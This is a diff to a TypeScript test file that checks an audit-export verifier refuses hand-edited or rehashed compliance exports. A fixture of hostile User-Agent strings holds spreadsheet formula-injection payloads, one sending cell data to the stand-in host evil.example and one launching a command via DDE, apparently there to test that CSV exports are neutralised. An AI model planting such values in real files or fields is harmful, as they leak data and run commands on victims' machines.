@@ -13,7 +13,8 @@ import { promisify } from 'node:util';
 import { type Stack, startStack, testClock } from '@tickwise/command-service/src/testing/harness';
 import { type AuditExport, type AuditHistory, DocumentType, streams } from '@tickwise/contracts';
 import Database from 'better-sqlite3';
-import { acknowledge, assessRisk, type Person, parseCsv, register, registerWithRole, view } from './test-support';
+import { exportHashOf } from './exports';
+import { assessRisk, type Person, parseCsv, register, registerWithRole, view } from './test-support';
 import { verifyExport } from './verify-export';
 
 const run = promisify(execFile);
@@ -23,7 +24,7 @@ const files = mkdtempSync(join(tmpdir(), 'tickwise-exports-'));
 /** One User-Agent per acknowledged document: each starts with a character a spreadsheet reads as a formula. */
 const HOSTILE_AGENTS: Record<DocumentType, string> = {
   risk_disclosure: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-  cftc_warning: '+1+cmd|\' /C calc\'!A0',
+  cftc_warning: "+1+cmd|' /C calc'!A0",
   educational_disclaimer: '-2+3',
   privacy_policy: '@SUM(1+1)',
 };
@@ -83,9 +84,9 @@ const auditCli = (file: string) =>
 function flipByteOfStoredEvent(stream: string, revision: number) {
   const db = new Database(join(stack.dir, 'events.db'));
   try {
-    const row = db.prepare('SELECT data FROM events WHERE stream = ? AND revision = ?').get(stream, revision) as
-      | { data: string }
-      | undefined;
+    const row = db
+      .prepare('SELECT data FROM events WHERE stream = ? AND revision = ?')
+      .get(stream, revision) as { data: string } | undefined;
     if (!row) throw new Error(`no stored event ${stream}@${revision}`);
     // A byte inside the content hash (a hex digit): flipping its lowest bit keeps the JSON readable.
     const index = row.data.indexOf('"contentHash":"') + '"contentHash":"'.length + 10;
@@ -147,14 +148,24 @@ describe('an export edited by hand is refused, naming the first mismatch', () =>
   };
   const problem = (result: ReturnType<typeof verifyExport>) => (result.ok ? 'ok' : result.problem);
 
-  test('a field of the report (the compliance state) → the export hash does not match', () => {
+  test('a field of the report (the compliance state) → the state does not replay from the streams', () => {
     expect(
       problem(
         edited((file) => {
           if ('state' in file.report) file.report.state.isCompliant = false;
         }),
       ),
-    ).toMatch(/^exportHash does not match/);
+    ).toMatch(/^report\.state is not what the exported streams replay to/);
+  });
+
+  test('an edited state with a recomputed export hash is still refused: the report must replay from the streams', () => {
+    const file = parse(untouchedExport);
+    if ('state' in file.report) file.report.state.isCompliant = !file.report.state.isCompliant;
+    const { exportHash: _old, ...body } = file;
+    const rehashed = { ...body, exportHash: exportHashOf(body) };
+    expect(problem(verifyExport(rehashed))).toMatch(
+      /^report\.state is not what the exported streams replay to/,
+    );
   });
 
   test('a report event that no longer matches the stored event it cites → that report event is named', () => {
@@ -164,7 +175,9 @@ describe('an export edited by hand is refused, naming the first mismatch', () =>
         if (cited?.type === 'DocumentAcknowledged') cited.data.secondsRead += 100;
       }
     });
-    expect(problem(result)).toBe(`report.events[5] (${tamperedStream} revision 5) does not match the stored event`);
+    expect(problem(result)).toBe(
+      `report.events[5] (${tamperedStream} revision 5) does not match the stored event`,
+    );
   });
 
   test('a stored event → its stream and revision (the first one when several were changed)', () => {
